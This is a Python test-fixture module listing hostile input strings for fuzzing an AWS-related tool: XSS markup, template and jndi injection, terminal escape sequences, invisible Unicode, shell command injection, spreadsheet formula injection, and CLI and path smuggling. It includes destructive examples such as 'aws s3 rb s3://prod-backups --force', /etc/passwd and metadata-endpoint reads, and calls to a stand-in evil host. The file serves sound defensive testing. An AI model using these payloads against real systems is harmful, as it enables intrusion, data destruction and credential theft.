"""Names that an attacker would choose, by kind: each wants to be more than a name in some place that shows it.

What they would run or fetch is harmless: `owned`, and a host that does not exist.
"""

# ruff: noqa: E501, RUF001

from __future__ import annotations

from itertools import product
from random import Random

EVIL = "https://evil.example/x"

_RUN = "touch owned"
_JS = "owned=1;alert(1)"

MARKUP = [
    f"<script>{_JS}</script>", f"<ScRiPt>{_JS}</sCrIpT >", f"<script src={EVIL}></script>", f"<script>{_JS}",
    f"<img src={EVIL} onerror={_JS}>", f'"><img src="{EVIL}" onerror="{_JS}">', f"'><svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>", f"<svg/onload={_JS}>", f"<math><mtext></mtext><script>{_JS}</script>",
    f"<iframe src=javascript:{_JS}>", f"<iframe srcdoc='<script>{_JS}</script>'>", f"<body onload={_JS}>",
    f"<details open ontoggle={_JS}>", f"<input autofocus onfocus={_JS}>", f"<style>@import '{EVIL}'</style>",
    f"</style><script>{_JS}</script>", f"</title><script>{_JS}</script>", f"</code><h1>Safe</h1><code>{_JS}",
    f"--><script>{_JS}</script><!--", f"<!--<script>{_JS}", f"]]><script>{_JS}</script>", "<!DOCTYPE x>",
    f"</template></textarea></noscript><script>{_JS}</script>", f"<base href={EVIL}>", "<plaintext>",
    f"<link rel=stylesheet href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><button>Sign in</button></form>", f"<object data={EVIL}>", f"<embed src={EVIL}>",
    f"<video src={EVIL} autoplay>", f"<a href=javascript:{_JS}>x</a>", f"javascript:{_JS}", f"data:text/html,{_JS}",
    f"&lt;script&gt;{_JS}&lt;/script&gt;", f"&#60;script&#62;{_JS}", f"\\u003cscript\\u003e{_JS}", "&amp;amp;",
    f"' onmouseover='{_JS}", f'" onmouseover="{_JS}" x="', f"` onmouseover={_JS} x=`", f"x onclick={_JS} y",
    f"' style='background:url({EVIL})'", f"red;background:url({EVIL})", f"url({EVIL})", "expression(alert(1))",
    f"\x00<script>{_JS}</script>", f"<scr\x00ipt>{_JS}</script>", f"＜script＞{_JS}", f"<\u200bscript>{_JS}</script>",
]  # fmt: skip

TEMPLATES = [
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% include 'x' %}", "{# x #}", "{0}", "{0.__class__}",
    "{function}", "{show_trace}", "{target!r:>99999999}", "{trace}{flow}", "%s%n%x", "%(name)s", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "${jndi:ldap://evil.example/x}", "$HOME", "%USERPROFILE%", "{}", "{{}}", "}}{{", "\\{0\\}",
]  # fmt: skip

TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b[8mhidden\x1b[28m", "\x1b[?1049h", "\x1b[6n",
    "\x1b]0;title\x07", "\x1b]52;c;b3duZWQ=\x07", f"\x1b]8;;{EVIL}\x1b\\click\x1b]8;;\x1b\\", "\x1bP+q544e\x1b\\",
    "\x1b_Gf=100;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1bc", "\x1b(0", "\x1b", "\x9b31mred", "\x9d0;title\x9c", "\x90q\x9c",
    "\x85next", "a\rb", "a\nb", "a\r\nb", "a\tb", "a\vb\fc", "a\bb", "a\x7fb", "a\x00b", "a\x07b", "a\x0eb\x0f",
    "1. CRITICAL\n2. fake line", "coldtrail: done.\r\nAll is well.", "a\u2028b\u2029c", "\x1a", "\x04", "\x03",
]  # fmt: skip

UNSEEN = [
    "\u202egnp.exe", "\u202dx\u202c", "\u2066x\u2069", "\u2067x", "\u2068x", "\u061cx", "\u200ex\u200f", "\u200b",
    "or\u200bders", "or\u200cders", "or\u200dders", "or\u2060ders", "or\ufeffders", "or\u00adders", "or\u034fders",
    "or\u115fders", "or\u3164ders", "or\uffa0ders", "or\u180eders", "or\ufe0fders", "or\u2800ders",
    "or\U000e0064\U000e007fders", "or\U000e0100ders", "a" + "\u0301" * 50, "\u0301\u0302first", "a" + "\u20dd" * 9,
    "\ufdd0", "\uffff", "\U0010ffff", "\ue000", "\u2003wide\u3000spaces\u00a0", "оrders", "ordеrs", "ｏｒｄｅｒｓ",
    "o\u0337rders", "\U0001d428rders", "اوردر", "הזמנות1234", "😀" * 200, "👩\u200d👩\u200d👧", "🏴\U000e0067\U000e007f",
]  # fmt: skip

LONE = ["\ud800", "\udfff", "x\ud83dx", "\udcff\udcfe"]
"""Halves of a pair, as JSON can have them and UTF-8 cannot."""

SCREEN_MARKUP = [
    "[/b]", "[/bold]", "[/]", "[bold red]x", f"[link={EVIL}]x[/link]", "[@click=app.bell]x[/]", "[b][i]x[/b][/i]",
    "\\[b]", "[[b]]", "[red", "red]", "[on red blink]x", ":skull:", ":warning:", ":white_check_mark: all well",
    "[#ff0000]x[/#ff0000]", "[not bold]", "[none]", "[rgb(1,2,3)]x",
]  # fmt: skip

_SHELL = [
    f"; {_RUN}", f"&& {_RUN}", f"|| {_RUN}", f"| {_RUN}", f"& {_RUN}", f"`{_RUN}`", f"$({_RUN})", f"\n{_RUN}\n",
    f"\r\n{_RUN}", f"'; {_RUN}; '", f'"; {_RUN}; "', f"'$({_RUN})'", f"\\'; {_RUN} #", f"${{IFS}}{_RUN}",
    "> owned", ">> owned", "< /dev/null > owned", f"<({_RUN})", f"$(({_RUN}))", f"!{_RUN}", f"# {_RUN}", f"x #{_RUN}",
    "*", "?", "[a-z]*", "~", "~root", "{a,b}", "$HOME", "$0", "$IFS", "$$", "a=b", f"x() {{ {_RUN}; }}; x",
    f"$'\\n{_RUN}'", "\\", "a\\", "'", '"', "`", "''", '""', "a'b", 'a"b', "a b", " a", "a ", "  ", "\\\n",
]  # fmt: skip

COMMAND_LINE = [
    "x: aws s3 rb s3://prod-backups --force # ", "x: aws iam create-user --user-name owned", ": aws ", "aws s3 ls",
    "x: coldtrail update --bundle evil", "x (run this instead: aws s3 rb s3://x)", "x.\n4. Run: aws s3 rb s3://x",
    "-x", "--output", "--endpoint-url", "--output=file:///etc/passwd", "--output file:///etc/passwd", "--", "-",
    "--no-verify-ssl", "--profile=root", "--cli-input-json", "--region=evil", "-rf", "-o/etc/passwd", "—force",
    "file:///etc/passwd", "file://owned", "fileb:///etc/passwd", EVIL, "http://169.254.169.254/latest/meta-data",
    "a,AttributeKey=Username,AttributeValue=root", "a,b", "a=b,c=d", "[a]", '{"a":"b"}', "[{}]", "@=file://owned",
    "a@=b", "TABLE_NAME", "FUNCTION_NAME", "TRACE_ID", "null", "None", "true", "0", "1e999", "-1", "NaN", "",
]  # fmt: skip

SHEETS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=HYPERLINK(\"" + EVIL + '")', "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", '",=1+1,"', '"\n=1+1', "|a|b|", "| --- |", "`code`", "``", f"[x]({EVIL})", f"![x]({EVIL})", "# h", "- a",
    "1. a", "> a", "***", "~~x~~", f"<{EVIL}>", "@everyone", "#1", "a\\|b", "```\nx\n```", "[x]: " + EVIL, "=", "+",
]  # fmt: skip

PLACES = [
    "../../etc/passwd", "/dev/stdout", "C:\\con", "constructor", "__proto__", "toString", "__class__", "*" * 40,
    "A" * 5_000, "a/" * 2_000, "a:" * 600, ("a" * 60 + ".") * 60, "%00", "%2e%2e%2f", "arn:aws:s3:::x", "arn:", ":::",
    "arn:aws:lambda:eu-west-1:123456789012:function:$(touch owned)", "123456789012:evil", "AWS::SNS x; touch owned",
    f"1-6966ae91-ffa13b811caa56a884e9e349; {_RUN}", f"eu-west-1; {_RUN}", "1-6966ae91-ffa13b811caa56a884e9e349\n",
    "eu-west-1\n", "shop-prod-order\n", "shop-prod-order\x00", "ＳHOP", "Booking ", " Booking", "Booking\u200b",
]  # fmt: skip

_BEFORE = ("orders", "x: aws s3 ls ", "'", '"', "<b>", "[b]", "\x1b[1m", "\u202e", "-", "=", "1-6966ae91-")
_AFTER = (
    f"; {_RUN}",
    f"$({_RUN})",
    f"\n{_RUN}",
    f"<img src={EVIL} onerror={_JS}>",
    "[/b]",
    "\x1b]0;x\x07",
    "|",
    "`",
)


def _mixed(number: int, seed: int) -> list[str]:
    """Names of fragments of all kinds, in any order."""
    random = Random(seed)
    parts = [*MARKUP, *TEMPLATES, *TERMINAL, *UNSEEN, *SCREEN_MARKUP, *_SHELL, *COMMAND_LINE, *SHEETS]
    return ["".join(random.choices(parts, k=random.randint(2, 4)))[:400] for _ in range(number)]


KINDS = {
    "markup": MARKUP,
    "templates": TEMPLATES,
    "terminal": TERMINAL,
    "unseen": UNSEEN,
    "screen markup": SCREEN_MARKUP,
    "shell": [*_SHELL, *(f"orders{one}" for one in _SHELL)],
    "command line": COMMAND_LINE,
    "sheets": SHEETS,
    "places": PLACES,
    "pairs": [before + after for before, after in product(_BEFORE, _AFTER)],
    "mixed": _mixed(60, seed=12),
}
NAMES = tuple(dict.fromkeys(name for names in KINDS.values() for name in names))
"""All of them that UTF-8 can write."""
EVERY_NAME = (*NAMES, *LONE)
